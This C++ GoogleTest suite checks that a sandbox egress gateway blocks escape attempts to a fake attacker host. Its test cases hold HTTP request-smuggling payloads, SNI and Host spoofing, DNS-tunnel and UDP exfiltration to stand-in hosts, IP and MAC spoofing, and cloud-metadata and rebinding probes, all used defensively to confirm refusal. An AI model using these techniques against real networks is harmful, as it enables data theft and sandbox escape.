// Egress threat suite (../shared/egress-threats.md) against a real gateway,
// real nftables slots and a fake internet. A threat case passes only if the
// attacker's log is empty; guest-side errors are printed, never trusted.
// The guest is a network namespace behind the slot's veth, running as root
// (a QEMU guest behind the slot's tap comes with the VM-driven suite).
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <functional>
#include <map>
#include <thread>

#include "gateway/tls/hello_builder.h"
#include "tests/integration/egress/world.h"

namespace vessel::egress_test {
namespace {

using namespace std::chrono_literals;
namespace json = boost::json;

constexpr const char* kSecret = "sk-live-SECRET-0123456789";

json::value basePolicy(uint64_t gen) {
  json::value p = allowlist(gen, {"a.test", "api.a.test", "a2.test", "rebind.test", "ten.test",
                                  "loop.test", "*.wild.a.test"});
  p.as_object()["credentials"] =
      json::array{json::object{{"name", "api"},
                               {"hosts", json::array{"api.a.test"}},
                               {"header", "Authorization"},
                               {"value", std::string("Bearer ") + kSecret}}};
  return p;
}

class EgressTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    auto w = EgressWorld::create();
    if (!w.ok()) {
      setup_error_ = new std::string(w.error().message());
      return;
    }
    world_ = w->release();
    auto g1 = world_->addGuest("sb-1", basePolicy(1));
    auto g2 = world_->addGuest("sb-2", fullMode(1));
    if (!g1.ok() || !g2.ok()) {
      setup_error_ = new std::string(!g1.ok() ? g1.error().message() : g2.error().message());
      return;
    }
    guest_ = *g1;
    other_ = *g2;
  }
  static void TearDownTestSuite() {
    delete world_;
    world_ = nullptr;
    delete setup_error_;
    setup_error_ = nullptr;
  }
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root";
    ASSERT_EQ(setup_error_, nullptr) << *setup_error_;
    ASSERT_NE(world_, nullptr);
    ASSERT_TRUE(world_->setPolicy(*guest_, basePolicy(++generation_)).ok());
    ASSERT_TRUE(world_->setPolicy(*other_, fullMode(generation_)).ok());
    world_->clearLogs();
  }
  void TearDown() override {
    if (HasFailure() && world_) {
      std::string log = world_->gatewayLog();
      std::cerr << "--- gateway log (tail) ---\n"
                << log.substr(log.size() > 4000 ? log.size() - 4000 : 0) << "\n";
    }
  }
  EgressWorld& w() { return *world_; }
  const Guest& g() { return *guest_; }
  // The verdict: nothing attacker-controlled saw a byte.
  void expectAttackerSawNothing(const std::string& guest_output) {
    EXPECT_EQ(w().attackerLog(), "") << "guest saw: " << guest_output;
  }
  // Runs the guest's attempt, then waits for the gateway's own verdicts on
  // it: each counter in `want` ("tcp_deny_policy") must rise by at least
  // its count. Only then is the attacker's log read: once the gateway has
  // refused, nothing is in flight. A case whose guest command never ran, or
  // whose gateway was down, fails here rather than passing on silence.
  void expectRefused(const std::map<std::string, int>& want,
                     const std::function<std::string()>& attempt) {
    std::map<std::string, int64_t> base;
    for (const auto& [k, n] : want) {
      base[k] = w().counter(k);
      ASSERT_GE(base[k], 0) << "gateway not answering";
    }
    std::string out = attempt();
    for (const auto& [k, n] : want) {
      EXPECT_TRUE(w().waitForCounter(k, base[k] + n - 1))
          << k << " did not rise by " << n << " (now " << w().counter(k) - base[k]
          << "); guest saw: " << out;
    }
    EXPECT_EQ(w().attackerLogNow(), "") << "guest saw: " << out;
  }

  static EgressWorld* world_;
  static Guest* guest_;
  static Guest* other_;
  static std::string* setup_error_;
  static uint64_t generation_;
};

EgressWorld* EgressTest::world_ = nullptr;
Guest* EgressTest::guest_ = nullptr;
Guest* EgressTest::other_ = nullptr;
std::string* EgressTest::setup_error_ = nullptr;
uint64_t EgressTest::generation_ = 1;

// --- positive cases and harness self-checks ---

TEST_F(EgressTest, AllowedHttpsVerifiesTheRealCertificate) {
  std::string out = w().curl(g(), {"--cacert", w().testCa(), "https://a.test/"});
  EXPECT_NE(out.find("hello from a.test"), std::string::npos) << out;
  out = w().curl(g(), {"http://a.test/"});
  EXPECT_NE(out.find("hello from a.test"), std::string::npos) << out;
}

TEST_F(EgressTest, AttackerLogSeesAFullModeSandbox) {
  // Positive control: the same request from a full-mode sandbox reaches X,
  // so an empty log elsewhere means "blocked", not "not logging".
  std::string out = w().curl(*other_, {"http://x.test/from-full-mode"});
  EXPECT_NE(w().attackerLog().find("from-full-mode"), std::string::npos) << out;
}

TEST_F(EgressTest, AttackerLoggersSeeEveryChannelWhenNotFiltered) {
  // The same primitives the threat cases use, sent from the gateway's
  // namespace (which routes to the fake internet with no slot in the way):
  // every channel's logger must record them, or empty logs prove nothing.
  auto run = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {"python3", VESSEL_EGRESS_DIR "/guest_tool.py"});
    return w().runIn(w().gwNetns(), args);
  };
  run({"udp", kX, "53", "ctl-udp"});
  run({"ping", kX, "ctl-icmp"});
  run({"rawproto", kX, "253"});
  run({"tcp", kX, "443", "ctl-tcp"});
  run({"dns", kResolver, "ctl.x.test"});
  std::string log = w().attackerLog();
  for (const char* want : {"ctl-udp", "ip proto 1", "ip proto 253", "ctl-tcp", "ctl.x.test"}) {
    EXPECT_NE(log.find(want), std::string::npos) << want << " missing from:\n" << log;
  }
}

TEST_F(EgressTest, CredentialIsInjectedAndNeverSeenByTheGuest) {
  std::string out =
      w().curl(g(), {"-H", "Authorization: Bearer guest-placeholder", "https://api.a.test/echo"});
  EXPECT_NE(out.find("authorization"), std::string::npos) << out;  // echoed, masked
  EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
  std::string api = w().apiLog();
  EXPECT_NE(api.find(std::string("Bearer ") + kSecret), std::string::npos) << api;
  EXPECT_EQ(api.find("guest-placeholder"), std::string::npos) << api;
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, DnsAnswersOnlyAllowedNames) {
  std::string out = w().guestTool(g(), {"dns", "172.16.0.1", "a.test"});
  EXPECT_NE(out.find("rcode 0 answers 1 198.51.100.10"), std::string::npos) << out;
  out = w().guestTool(g(), {"dns", "172.16.0.1", "a.test", "1", "tcp"});
  EXPECT_NE(out.find("rcode 0 answers 1 198.51.100.10"), std::string::npos) << out;
}

// --- A. name/address mismatch ---

TEST_F(EgressTest, T01_HostsFileSpoofDialsTheRealName) {
  std::string out =
      w().curl(g(), {"--resolve", std::string("a.test:443:") + kX, "-k", "https://a.test/"});
  out += w().curl(g(), {"--resolve", std::string("a.test:80:") + kX, "http://a.test/"});
  EXPECT_NE(out.find("hello from a.test"), std::string::npos) << out;
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T02_CustomResolverIsUnreachable) {
  std::string out = w().guestTool(g(), {"dns", kX, "a.test"});
  out += w().guestTool(g(), {"dns", kX, "a.test", "1", "tcp"});
  out += w().guestTool(g(), {"dns", kResolver, "data.x.test"});
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T05_AllowedSniToAttackerIpGoesToTheRealName) {
  std::string out = w().guestRun(g(), {"sh", "-c",
                                       std::string("echo | openssl s_client -connect ") + kX +
                                           ":443 -servername a.test -CAfile " + w().testCa() +
                                           " 2>&1 | grep -i 'verify return code'"});
  EXPECT_NE(out.find("Verify return code: 0"), std::string::npos) << out;
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T06_T07_DisallowedOrMissingSniIsRefused) {
  expectRefused({{"tcp_deny_policy", 1}, {"tcp_deny_no-sni", 2}}, [&] {
    std::string out =
        w().guestRun(g(), {"sh", "-c",
                           std::string("echo | timeout 10 openssl s_client -connect ") + kA +
                               ":443 -servername x.test 2>&1 | head -3"});
    out += w().guestRun(g(), {"sh", "-c",
                              std::string("echo | timeout 10 openssl s_client -connect ") + kX +
                                  ":443 -noservername 2>&1 | head -3"});
    return out + w().curl(g(), {"-k", std::string("https://") + kX + "/"});
  });
}

TEST_F(EgressTest, T08_CdnCoTenantIsRefused) {
  expectRefused({{"tcp_deny_policy", 2}}, [&] {
    return w().curl(g(), {"--connect-to", "x2.test:443:a2.test:443", "https://x2.test/"}) +
           w().curl(g(), {"-H", "Host: x2.test", "http://a2.test/"});
  });
}

// --- B. authority confusion inside an allowed connection ---

TEST_F(EgressTest, T10_DomainFrontingIsRefusedWhenInspected) {
  json::value p = basePolicy(++generation_);
  p.as_object()["inspect"] = json::array{"a2.test"};
  ASSERT_TRUE(w().setPolicy(g(), p).ok());
  expectRefused({{"tcp_deny_host-mismatch", 1}}, [&] {
    return w().curl(g(), {"-H", "Host: x2.test", "https://a2.test/"});
  });
  std::string ok = w().curl(g(), {"https://a2.test/"});
  EXPECT_NE(ok.find("cdn"), std::string::npos) << ok;
}

TEST_F(EgressTest, T12_AbsoluteFormMustAgreeWithHost) {
  expectRefused({{"tcp_deny_bad-request", 2}}, [&] {
    return w().guestTool(g(), {"tcp", "a2.test", "80",
                               "GET http://x2.test/ HTTP/1.1\\r\\nHost: a2.test\\r\\n\\r\\n"}) +
           w().guestTool(g(), {"tcp", "a2.test", "80",
                               "GET http://a2.test/ HTTP/1.1\\r\\nHost: x2.test\\r\\n\\r\\n"});
  });
}

TEST_F(EgressTest, T15_SmugglingIsRefused) {
  const char* smuggle[] = {
      "POST / HTTP/1.1\\r\\nHost: a2.test\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: "
      "chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /s HTTP/1.1\\r\\nHost: x2.test\\r\\n\\r\\n",
      "POST / HTTP/1.1\\r\\nHost: a2.test\\r\\nContent-Length: 0\\r\\nContent-Length: "
      "38\\r\\n\\r\\nGET /s HTTP/1.1\\r\\nHost: x2.test\\r\\n\\r\\n",
      "GET / HTTP/1.1\\r\\nHost: a2.test\\r\\nX: y\\r\\n Host: x2.test\\r\\n\\r\\n",
      // A pipelined second request on the pinned connection.
      "GET / HTTP/1.1\\r\\nHost: a2.test\\r\\n\\r\\nGET /s HTTP/1.1\\r\\nHost: x2.test\\r\\n\\r\\n",
  };
  expectRefused({{"tcp_deny_bad-request", 3}, {"tcp_deny_host-mismatch", 1}}, [&] {
    std::string out;
    for (const char* s : smuggle) out += w().guestTool(g(), {"tcp", "a2.test", "80", s});
    return out;
  });
}

TEST_F(EgressTest, T16_MalformedHostIsRefused) {
  expectRefused({{"tcp_deny_bad-request", 6}}, [&] {
    std::string out;
    for (const char* h :
         {"Host: a2.test\\r\\nHost: x2.test", "Host: a2.test@x2.test", "Host: a2.test:443@x2.test",
          "Host: x2.test#.a2.test", "Host: a2.test\\tx2.test"}) {
      out += w().guestTool(
          g(), {"tcp", kCdn, "80", std::string("GET / HTTP/1.1\\r\\n") + h + "\\r\\n\\r\\n"});
    }
    return out + w().guestTool(g(), {"tcp", kCdn, "80", "GET / HTTP/1.0\\r\\n\\r\\n"});
  });
}

TEST_F(EgressTest, T19_T57_RedirectCarriesNoCredential) {
  std::string out = w().curl(g(), {"-L", "https://api.a.test/redirect"});
  EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
  expectAttackerSawNothing(out);
}

// --- C. protocol coverage ---

TEST_F(EgressTest, T21_T22_OddClientHellos) {
  using gateway::tls::buildClientHello;
  using gateway::tls::HelloSpec;
  std::vector<std::string> hellos = {
      buildClientHello({.server_names = {"x.test"}, .padding = 20000}),
      buildClientHello({.server_names = {"a.test", "x.test"}}),
      buildClientHello({.server_names = {"x.test"}, .record_size = 3}),
      buildClientHello({.server_names = {"a.test"}, .ech = true}),
      buildClientHello({.server_names = {kX}}),
      buildClientHello({.server_names = {""}}),
      std::string("\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10", 11),
  };
  // x.test (large hello), two names, x.test (3-byte records), ECH, an IP
  // literal, an empty name, an SSLv2 hello.
  std::string out;
  expectRefused({{"tcp_deny_policy", 2},
                 {"tcp_deny_multiple-sni", 1},
                 {"tcp_deny_ech", 1},
                 {"tcp_deny_bad-sni", 2},
                 {"tcp_deny_unparseable", 1}},
                [&] {
                  for (const std::string& h : hellos) {
                    std::string hex;
                    for (unsigned char c : h) hex += fmt::format("\\x{:02x}", c);
                    out += w().guestTool(g(), {"tcp", kX, "443", hex}).substr(0, 80);
                  }
                  return out;
                });
  // Uppercase with a trailing dot is the same allowed name, and reaches a.test.
  std::string ok =
      w().curl(g(), {"--resolve", std::string("A.TEST.:443:") + kX, "https://A.TEST./"});
  EXPECT_NE(ok.find("hello from a.test"), std::string::npos) << ok;
}

TEST_F(EgressTest, T24_T25_T26_OtherPortsAndProtocolsAreRefused) {
  std::string out = w().curl(g(), {"https://a.test:8443/"});
  out += w().guestTool(g(), {"tcp", "a.test", "22", "SSH-2.0-OpenSSH_9.0\\r\\n"});
  out += w().guestTool(g(), {"tcp", kX, "443", "SSH-2.0-OpenSSH_9.0\\r\\n"});
  out += w().guestTool(g(), {"tcp", kA, "25", "EHLO a.test\\r\\nSTARTTLS\\r\\n"});
  out += w().guestTool(g(), {"tcp", kA, "6379", "*1\\r\\n$4\\r\\nPING\\r\\n"});
  out += w().guestTool(g(), {"tcp", kX, "5432", "\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f"});
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T27_T29_T30_UdpIcmpRawAndFragmentsAreDropped) {
  std::string out;
  for (const char* port : {"53", "123", "443", "51820"}) {
    out += w().guestTool(g(), {"udp", kX, port, "exfil-udp"});
  }
  out += w().guestTool(g(), {"ping", kX});
  out += w().guestTool(g(), {"rawproto", kX, "253"});
  out += w().guestTool(g(), {"frag-udp", kX, "53"});
  out += w().guestTool(g(), {"udp", "255.255.255.255", "53", "broadcast"});
  out += w().guestTool(g(), {"udp", "224.0.0.251", "5353", "mdns"});
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T28_Ipv6IsDroppedAtTheSlot) {
  std::string out = w().guestTool(g(), {"raw-frame", "86dd"});
  out += w().guestRun(g(), {"curl", "-6", "-sS", "-m", "3", "http://[2001:db8::66]/"});
  expectAttackerSawNothing(out);
}

// --- D. DNS as a channel ---

TEST_F(EgressTest, T31_T32_DnsExfilIsNeverForwarded) {
  std::string out = w().guestTool(g(), {"dns", "172.16.0.1", "c2VjcmV0.x.test"});
  EXPECT_NE(out.find("rcode 5"), std::string::npos) << out;  // REFUSED, locally
  out += w().guestTool(g(), {"dns", "172.16.0.1", "c2VjcmV0.x.test", "16", "tcp"});
  out += w().guestTool(g(), {"dns", "172.16.0.1", "a.test", "16"});   // TXT
  out += w().guestTool(g(), {"dns", "172.16.0.1", "a.test", "255"});  // ANY
  out += w().guestRun(g(), {"getent", "hosts", "secret.x.test"});
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T33_DnsToOtherResolversIsDropped) {
  std::string out = w().guestTool(g(), {"dns", kX, "a.test"});
  out += w().guestTool(g(), {"dns", kX, "a.test", "1", "tcp"});
  out += w().guestTool(g(), {"tcp", kX, "853", "dot"});
  expectAttackerSawNothing(out);
}

// --- E. layer 2/3 identity ---

TEST_F(EgressTest, T37_SpoofedSourceIsDroppedAtTheSlot) {
  auto before = w().stats();
  ASSERT_TRUE(before.ok());
  std::string out = w().guestTool(g(), {"spoof-udp", "172.16.0.6", kX, "53"});
  out += w().guestRun(g(), {"ip", "addr", "add", "172.16.0.6/32", "dev", "eth0"});
  out += w().guestRun(
      g(), {"curl", "-sS", "-m", "3", "--interface", "172.16.0.6", "http://x.test/spoofed"});
  out += w().guestRun(g(), {"ip", "addr", "del", "172.16.0.6/32", "dev", "eth0"});
  expectAttackerSawNothing(out);
  auto after = w().stats();
  ASSERT_TRUE(after.ok());
  // The spoofed TCP never even reached the gateway.
  EXPECT_EQ(json::serialize((*before)["counters"].as_object()["tcp_allow"]),
            json::serialize((*after)["counters"].as_object()["tcp_allow"]));
}

TEST_F(EgressTest, T38_T39_SpoofedMacGetsNoNetworkNorAnotherSandboxPolicy) {
  // sb-2 is in full mode; pretending to be "another guest" must not help.
  std::string out =
      w().guestRun(g(), {"ip", "link", "set", "eth0", "address", "06:00:ac:10:00:09"});
  out += w().guestRun(g(), {"curl", "-sS", "-m", "3", "http://x.test/mac-spoof"});
  out += w().guestRun(g(), {"ip", "link", "set", "eth0", "address", "06:00:ac:10:00:02"});
  out += w().guestRun(g(), {"ip", "neigh", "flush", "all"});
  expectAttackerSawNothing(out);
}

// --- F. inward destinations ---

TEST_F(EgressTest, T35_T41_T43_InwardAnswersAndAddressesAreRefusedEvenInFullMode) {
  std::string out = w().curl(g(), {"http://rebind.test/latest/meta-data/"});
  out += w().curl(g(), {"http://ten.test/"});
  out += w().guestTool(g(), {"dns", "172.16.0.1", "rebind.test"});
  EXPECT_NE(out.find("rcode 5"), std::string::npos) << out;
  out += w().curl(*other_, {"http://169.254.169.254/latest/meta-data/"});
  out += w().curl(*other_, {"http://10.1.2.3/"});
  out += w().curl(*other_, {"http://rebind.test/"});
  out += w().curl(*other_, {"http://[::ffff:169.254.169.254]/"});
  expectAttackerSawNothing(out);
}

TEST_F(EgressTest, T42_GatewayAndHostServicesAreNotReachable) {
  std::string out;
  for (const char* target : {"172.16.0.1:22", "172.16.0.1:15001", "10.200.0.1:15001",
                             "10.98.0.1:22", "127.0.0.1:80", "0.0.0.0:80"}) {
    out += w().curl(*other_, {std::string("http://") + target + "/"});
  }
  // The DNS port is reachable only as DNS.
  out += w().guestTool(g(), {"tcp", "172.16.0.1", "53", "GET / HTTP/1.1\\r\\n\\r\\n"});
  expectAttackerSawNothing(out);
}

// --- G. name normalisation ---

TEST_F(EgressTest, T46_T49_SuffixAndEncodingTricksAreRefused) {
  std::string out;
  int64_t policy = w().counter("tcp_deny_policy"), bad = w().counter("tcp_deny_bad-request");
  for (const char* host : {"evila.test", "a.test.x.test", "wild.a.test", "x.test/a.test"}) {
    out += w().guestTool(
        g(), {"tcp", kX, "80", std::string("GET / HTTP/1.1\\r\\nHost: ") + host + "\\r\\n\\r\\n"});
  }
  for (const char* target :
       {"http://a.test%2ex.test/", "http://a.test@x.test/", "http://user:pass@x.test/"}) {
    out += w().guestTool(
        g(), {"tcp", kX, "80",
              std::string("GET ") + target + " HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n"});
  }
  // Three names outside the policy, one unparseable Host, three bad targets.
  EXPECT_TRUE(w().waitForCounter("tcp_deny_policy", policy + 2)) << out;
  EXPECT_TRUE(w().waitForCounter("tcp_deny_bad-request", bad + 3)) << out;
  // *.wild.a.test matches deeper labels only.
  std::string dns = w().guestTool(g(), {"dns", "172.16.0.1", "wild.a.test"});
  EXPECT_NE(dns.find("rcode 5"), std::string::npos) << dns;
  EXPECT_EQ(w().attackerLogNow(), "") << out;
}

// --- H. time and state ---

TEST_F(EgressTest, T51_LivePolicyChangeResetsOpenConnections) {
  // A keep-alive connection to a.test, then deny-all: the gateway must cut it.
  std::string script =
      "import socket,sys,time\n"
      "s=socket.create_connection(('a.test',80),timeout=10)\n"
      "s.sendall(b'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n')\n"
      "print('first', s.recv(4096)[:12], flush=True)\n"
      "open(sys.argv[1],'w').write('open')\n"
      // The rest of the first response may still be in flight: read on
      // until the gateway ends the connection (or the timeout says it did not).
      "try:\n"
      "  while s.recv(4096):\n"
      "    pass\n"
      "  print('closed', flush=True)\n"
      "except ConnectionResetError:\n"
      "  print('reset', flush=True)\n"
      "except socket.timeout:\n"
      "  print('still-open', flush=True)\n";
  std::string flag = w().dir() + "/t51.flag";
  std::string out;
  std::thread client([&] { out = w().guestRun(g(), {"python3", "-c", script, flag}); });
  for (int i = 0; i < 200 && ::access(flag.c_str(), F_OK) != 0; ++i) {
    std::this_thread::sleep_for(50ms);
  }
  ASSERT_TRUE(w().setPolicy(g(), noneMode(++generation_)).ok());
  client.join();
  EXPECT_NE(out.find("first b'HTTP/1.1 200'"), std::string::npos) << out;
  EXPECT_TRUE(out.find("reset") != std::string::npos || out.find("closed") != std::string::npos)
      << out;
  auto st = w().stats();
  ASSERT_TRUE(st.ok());
  const auto* n = (*st)["counters"].as_object().if_contains("tcp_deny_policy-changed");
  ASSERT_TRUE(n != nullptr) << "no connection was reset for a policy change";
  EXPECT_GE(n->to_number<int64_t>(), 1);
}

// --- I. credentials ---

TEST_F(EgressTest, T54_T59_CredentialIsHostKeyedAndNeverOnPlaintext) {
  // Plaintext to X claiming the credentialed host: decided by Host, dialled
  // to api.a.test's real address, and no secret on plaintext.
  std::string out = w().guestTool(
      g(), {"tcp", kX, "80",
            "GET /echo HTTP/1.1\\r\\nHost: api.a.test\\r\\nProxy-Authorization: Basic "
            "Z3Vlc3Q=\\r\\n\\r\\n"});
  std::string api = w().apiLog();
  EXPECT_EQ(api.find(kSecret), std::string::npos) << api;
  EXPECT_EQ(api.find("Proxy-Authorization"), std::string::npos) << api;
  // TLS with the credentialed SNI to X: terminated and re-originated to the
  // real api.a.test, never to X.
  out +=
      w().curl(g(), {"--resolve", std::string("api.a.test:443:") + kX, "https://api.a.test/echo"});
  EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
  expectAttackerSawNothing(out);
}

}  // namespace
}  // namespace vessel::egress_test
